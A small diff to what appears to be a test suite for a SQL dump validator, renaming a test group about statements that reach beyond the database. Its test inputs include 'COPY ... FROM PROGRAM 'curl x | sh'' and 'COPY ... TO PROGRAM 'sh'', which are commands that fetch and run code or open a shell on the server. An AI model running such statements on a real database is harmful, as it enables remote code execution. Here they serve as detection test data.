@@ -101,7 +101,7 @@ describe('D22: a dump that is not of one database', () => {
   });
 });
 
-describe('D21: statements that reach beyond the database', () => {
+describe('D21, D27: statements that reach beyond the database', () => {
   it.each([
     ["COPY public.t FROM PROGRAM 'curl x | sh';", 'COPY FROM PROGRAM'],
     ["copy public.t (a) to program 'sh';", 'COPY TO PROGRAM'],
